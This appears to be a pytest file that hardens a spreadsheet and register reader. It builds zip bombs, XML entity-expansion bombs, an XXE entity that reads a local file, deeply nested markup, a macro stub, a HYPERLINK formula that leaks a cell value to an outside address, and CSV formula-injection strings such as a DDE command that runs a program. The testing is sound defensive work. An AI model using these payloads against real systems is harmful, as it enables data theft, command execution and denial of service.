"""
Files made to hurt (T-I1 to T-I3, T-I5): each is refused in Chinese or read with rows and columns named, in little memory.

Each is read in a child process that may not use more than a quarter of a gigabyte and half a minute of processor.
"""

import codecs
import csv
import io
import json
import os
import resource
import zipfile
from collections.abc import Mapping
from pathlib import Path

import docx
import pytest
import xlsxwriter

from fairdraw.documents import tables
from fairdraw.exchange import writers
from fairdraw.exchange.readers import targets
from fairdraw.exchange.readers.columns import open_register
from fairdraw.exchange.tables import AS_FOUND
from fairdraw.kernel.errors import InvalidInput
from tests.builders import forking
from tests.builders.sheets import Sheet, add_docx_table, ods_package
from tests.builders.tables import replace_part, text_file, workbook

MEMORY_BEYOND = 256 << 20
PROCESSOR_SECONDS = 30
HEAD = ["名称", "代码", "登记状态"]
ROW = ["演示县甲一贸易有限公司", "91350524MA0000007P", "存续"]
SHEET = "xl/worksheets/sheet1.xml"
STRINGS = "xl/sharedStrings.xml"
SPREADSHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
ENTITIES = '<!DOCTYPE x [<!ENTITY a "{}">{}]>'.format(
    "笑" * 100, "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9))
)


def outcome(path: Path):
    """What comes of the file within the limits: ``("refused", words)``, or ``("read", rows, troubles)``."""

    def read() -> str:
        held = int(Path("/proc/self/statm").read_text(encoding="ascii").split()[0]) * os.sysconf(
            "SC_PAGE_SIZE"
        )
        for limit, most in (
            (resource.RLIMIT_AS, held + MEMORY_BEYOND),
            (resource.RLIMIT_CPU, PROCESSOR_SECONDS),
        ):
            resource.setrlimit(limit, (most, resource.getrlimit(limit)[1]))
        try:
            found = targets.read(open_register(path, targets.ALIASES, AS_FOUND))
        except InvalidInput as refused:
            return json.dumps(["refused", str(refused)])
        rows = [[row.number, row.name, row.uscc] for row in found.rows]
        return json.dumps(["read", rows, [[t.row, t.column, t.message] for t in found.troubles]])

    told = forking.told(read)
    assert told is not None, "it was ended by the limits"
    return json.loads(told)


def with_parts(path: Path, parts: Mapping[str, bytes]) -> Path:
    """The package with more parts."""
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as package:
        for name, content in parts.items():
            package.writestr(name, content)
    return path


def sheet_xml(rows: str, after: str = "") -> bytes:
    """A worksheet."""
    return f'<?xml version="1.0"?><worksheet xmlns="{SPREADSHEET}"><sheetData>{rows}</sheetData>{after}</worksheet>'.encode()


def nested(folder: Path) -> Path:
    """A zip in a zip in a zip."""
    inner = workbook(folder, [HEAD, ROW]).read_bytes()
    for name in ("内.zip", "中.zip", "外.zip"):
        packed = io.BytesIO()
        with zipfile.ZipFile(packed, "w") as package:
            package.writestr(name, inner)
        inner = packed.getvalue()
    path = folder / "外.xlsx"
    path.write_bytes(inner)
    return path


def zip_bomb(folder: Path) -> Path:
    """A workbook that unpacks to two hundred times its size."""
    return replace_part(workbook(folder, [HEAD, ROW]), SHEET, sheet_xml(" " * 80_000_000))


def bomb_beside(folder: Path) -> Path:
    """A workbook with a bomb in a part that nobody needs."""
    return with_parts(workbook(folder, [HEAD, ROW]), {"xl/media/image1": b"\0" * 90_000_000})


def bomb_of_a_kind(folder: Path) -> Path:
    """A package whose statement of what it is has three hundred megabytes."""
    path = folder / "种类.ods"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as package, package.open("mimetype", "w") as part:
        for _n in range(300):
            part.write(b"a" * 1_000_000)
    return path


def many_columns(folder: Path) -> Path:
    """20,000 columns of text."""
    return text_file(
        folder, ",".join([*HEAD, *(f"列{n}" for n in range(20_000))]) + "\n" + ",".join(ROW) + "\n"
    )


def many_columns_in_a_workbook(folder: Path) -> Path:
    """16,384 columns, as many as a workbook has."""
    return replace_part(
        workbook(folder, [HEAD, ROW]), SHEET, sheet_xml('<row r="1"><c r="XFD1"><v>1</v></c></row>')
    )


def a_line_of_everything(folder: Path) -> Path:
    """One cell of thirty megabytes."""
    return text_file(folder, ",".join(HEAD) + "\n" + "笑" * 10_000_000 + ",1,存续\n")


def endless_quote(folder: Path) -> Path:
    """A quotation mark that is never closed, and twenty megabytes after it."""
    return text_file(folder, ",".join(HEAD) + '\n"' + "演示县,91350524MA0000007P,存续\n" * 500_000)


def giant_merge(folder: Path) -> Path:
    """A merged range over the whole sheet, and a thousand over the whole of its rows."""
    merged = '<mergeCell ref="A1:XFD1048576"/>' + '<mergeCell ref="A2:XFD1048576"/>' * 1000
    rows = "".join(
        f'<row r="{n}">'
        + "".join(
            f'<c r="{c}{n}" t="inlineStr"><is><t>{v}</t></is></c>' for c, v in zip("ABC", r, strict=True)
        )
        + "</row>"
        for n, r in ((1, HEAD), (2, ROW))
    )
    return replace_part(
        workbook(folder, [HEAD, ROW]), SHEET, sheet_xml(rows, f"<mergeCells>{merged}</mergeCells>")
    )


def entities_in_a_workbook(folder: Path) -> Path:
    """Shared strings that stand for a hundred thousand million characters."""
    bomb = f'<?xml version="1.0"?>{ENTITIES}<sst xmlns="{SPREADSHEET}" count="1"><si><t>&j;</t></si></sst>'
    return replace_part(workbook(folder, [HEAD, ROW]), STRINGS, bomb.encode())


def entities_in_styles(folder: Path) -> Path:
    """The same in the styles, which tell percentages."""
    bomb = f'<?xml version="1.0"?>{ENTITIES}<styleSheet xmlns="{SPREADSHEET}"><numFmts>&j;</numFmts></styleSheet>'
    return replace_part(workbook(folder, [HEAD, ROW]), "xl/styles.xml", bomb.encode())


def entities_in_a_document(folder: Path) -> Path:
    """The same in a Word document."""
    path = _document(folder)
    with zipfile.ZipFile(path) as package:
        body = package.read("word/document.xml").decode()
    head, _mark, rest = body.partition("?>")
    return replace_part(
        path, "word/document.xml", f"{head}?>{ENTITIES}{rest}".replace("甲一", "&j;").encode()
    )


def entities_in_an_opendocument(folder: Path) -> Path:
    """The same in an ods."""
    path = ods_package(folder / "实体.ods", '<table:table table:name="a"/>')
    with zipfile.ZipFile(path) as package:
        body = package.read("content.xml").decode()
    head, _mark, rest = body.partition("?>")
    return replace_part(
        path,
        "content.xml",
        f"{head}?>{ENTITIES}{rest}".replace(
            '<table:table table:name="a"/>', "<table:table>&j;</table:table>"
        ).encode(),
    )


def entities_in_spreadsheetml(folder: Path) -> Path:
    """The same in XML of Excel 2003."""
    name = "urn:schemas-microsoft-com:office:spreadsheet"
    return text_file(
        folder, f'<?xml version="1.0"?>{ENTITIES}<Workbook xmlns="{name}">&j;</Workbook>', name="表.xml"
    )


def entities_in_a_page(folder: Path) -> Path:
    """The same in a web page."""
    return text_file(folder, f"{ENTITIES}<html><table><tr><td>&j;</td></tr></table></html>", name="表.xls")


def an_outside_file(folder: Path) -> Path:
    """Shared strings that ask for a file of this machine."""
    (folder / "秘密.txt").write_text("演示县秘密有限公司", encoding="utf-8")
    asks = f'<!DOCTYPE x [<!ENTITY a SYSTEM "file://{folder}/秘密.txt">]>'
    bomb = f'<?xml version="1.0"?>{asks}<sst xmlns="{SPREADSHEET}" count="1"><si><t>&a;</t></si></sst>'
    return replace_part(workbook(folder, [HEAD, ROW]), STRINGS, bomb.encode())


def deep_xml(folder: Path) -> Path:
    """Elements inside elements, a hundred thousand deep."""
    return replace_part(workbook(folder, [HEAD, ROW]), SHEET, sheet_xml("<a>" * 100_000 + "</a>" * 100_000))


def deep_page(folder: Path) -> Path:
    """Tables inside tables, ten thousand deep."""
    return text_file(folder, "<html>" + "<table><tr><td>" * 10_000, name="深.xls")


def utf16_without_mark(folder: Path) -> Path:
    """UTF-16 that does not say so."""
    return text_file(folder, ",".join(HEAD) + "\n" + ",".join(ROW) + "\n", encoding="utf-16-le")


def mixed(folder: Path) -> Path:
    """GBK whose third line is UTF-8."""
    path = folder / "混.csv"
    line = (",".join(ROW) + "\n").encode()
    path.write_bytes((",".join(HEAD) + "\n").encode("gbk") + line.decode().encode("gbk") * 20 + line)
    return path


def zeros(folder: Path) -> Path:
    """Ten megabytes of nothing."""
    path = folder / "空.csv"
    path.write_bytes(b"\0" * 10_000_000)
    return path


def nothing(folder: Path) -> Path:
    """An empty file."""
    return text_file(folder, "")


def only_a_mark(folder: Path) -> Path:
    """A mark of UTF-8 and nothing after it."""
    path = folder / "标记.csv"
    path.write_bytes(codecs.BOM_UTF8)
    return path


def cut_in_a_character(folder: Path) -> Path:
    """A text that ends in the middle of a character."""
    path = text_file(folder, ",".join(HEAD) + "\n" + ROW[0])
    path.write_bytes(path.read_bytes()[:-1])
    return path


def cut_document(folder: Path) -> Path:
    """A Word document without its end."""
    path = _document(folder)
    path.write_bytes(path.read_bytes()[:-300])
    return path


def cut_opendocument(folder: Path) -> Path:
    """An ods without its end."""
    path = ods_package(folder / "断.ods", '<table:table table:name="a"/>')
    path.write_bytes(path.read_bytes()[:-60])
    return path


def _document(folder: Path) -> Path:
    path = folder / "表.docx"
    document = docx.Document()
    add_docx_table(document, Sheet([HEAD, ROW]))
    document.save(str(path))
    return path


@pytest.mark.parametrize(
    ("make", "said"),
    [
        (nested, "这是压缩包。请先解压"),
        (zip_bomb, "解压后过大"),
        (bomb_beside, "解压后过大"),
        (bomb_of_a_kind, "这是压缩包。请先解压"),
        (many_columns, "第1行：这一行有 20003 列，最多读取 256 列"),
        (many_columns_in_a_workbook, "表格有 16384 列，最多读取 256 列"),
        (a_line_of_everything, "第2行：这一行的双引号不成对或含有不能读取的字符"),
        (endless_quote, "第2行：这一行的双引号不成对"),
        (giant_merge, "第1行：表头“名称”出现了两次"),
        (entities_in_a_workbook, "不是能读取的表格"),
        (entities_in_a_document, "不是能读取的表格"),
        (entities_in_an_opendocument, "不是能读取的表格"),
        (entities_in_spreadsheetml, "不是能读取的表格"),
        (entities_in_a_page, "第1行：缺少必需的列"),
        (an_outside_file, "不是能读取的表格"),
        (deep_xml, "没有任何内容"),
        (deep_page, "没有任何内容"),
        (utf16_without_mark, "第2行：这一行既不是 UTF-8 也不是 GB18030"),
        (mixed, "第1行：这一行的编码与文件其他行不同（第22行是 UTF-8）"),
        (zeros, "第1行：这一行的双引号不成对或含有不能读取的字符"),
        (nothing, "文件是空的"),
        (only_a_mark, "文件里没有任何内容"),
        (cut_in_a_character, "第2行：这一行的编码与文件其他行不同"),
        (cut_document, "文件已损坏"),
        (cut_opendocument, "文件已损坏"),
    ],
)
def test_it_is_refused_with_advice(make, said, tmp_path):
    answer = outcome(make(tmp_path))

    assert answer[0] == "refused"
    assert said in answer[1]


def strings(folder: Path, count: int) -> Path:
    """A workbook with so many shared strings, of which one row is made."""
    shared = "".join(f"<si><t>演示{n}</t></si>" for n in range(count - 6))
    named = "".join(f"<si><t>{text}</t></si>" for text in (*HEAD, *ROW))
    rows = "".join(
        f'<row r="{r}">'
        + "".join(f'<c r="{c}{r}" t="s"><v>{3 * (r - 1) + n}</v></c>' for n, c in enumerate("ABC"))
        + "</row>"
        for r in (1, 2)
    )
    path = replace_part(workbook(folder, [HEAD, ROW]), SHEET, sheet_xml(rows))
    return replace_part(path, STRINGS, f'<sst xmlns="{SPREADSHEET}">{named}{shared}</sst>'.encode())


def require_read(path: Path) -> None:
    """The one row that the file has is read, and nothing else."""
    assert outcome(path) == ["read", [[2, ROW[0], ROW[1]]], []]


def test_strings_that_no_cell_shows_are_no_rows(tmp_path):
    require_read(strings(tmp_path, 50_000))


@pytest.mark.long
def test_a_million_strings_that_no_cell_shows_are_no_rows(tmp_path):
    require_read(strings(tmp_path, 1_000_000))


def test_an_entity_in_the_styles_stands_for_nothing(tmp_path):
    require_read(entities_in_styles(tmp_path))


def test_macros_are_not_run_and_links_are_not_followed(tmp_path):
    links = '<externalLink xmlns="x"><externalBook r:id="rId1" xmlns:r="y"/></externalLink>'
    parts = {
        "xl/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"Sub AutoOpen()",
        "xl/externalLinks/externalLink1.xml": links.encode(),
        "xl/externalLinks/_rels/externalLink1.xml.rels": b'<Relationships><Relationship Id="rId1" Target="http://192.0.2.1/x"/></Relationships>',
    }
    require_read(with_parts(workbook(tmp_path, [HEAD, ROW], name="宏.xlsm"), parts))


@pytest.mark.parametrize("name", ["=cmd|' /C calc'!A0", "@SUM(A1:A9)", "＝１＋１", "-2+3", "\t=1+1"])
def test_a_name_that_is_a_formula_comes_in_as_text_and_goes_out_as_text(name, tmp_path):
    path = tmp_path / "表.csv"
    with path.open("w", encoding="utf-8", newline="") as stream:
        csv.writer(stream).writerows([HEAD, [name, *ROW[1:]]])

    _read, rows, troubles = outcome(path)

    assert troubles == []
    assert rows == [[2, name.strip(), ROW[1]]]
    out = tables.table_csv([tables.Column("名称")], [[rows[0][1]]]).decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(out)))[1] == ["'" + name.strip()]
    assert writers.cell(rows[0][1]) == "'" + name.strip()


def test_a_formula_cell_is_read_as_what_it_showed(tmp_path):
    path = tmp_path / "公式.xlsx"
    book = xlsxwriter.Workbook(str(path))
    sheet = book.add_worksheet()
    sheet.write_row(0, 0, HEAD)
    sheet.write_formula(1, 0, '=HYPERLINK("http://192.0.2.1/?"&B2)', value=ROW[0])
    sheet.write_row(1, 1, ROW[1:])
    book.close()

    require_read(path)
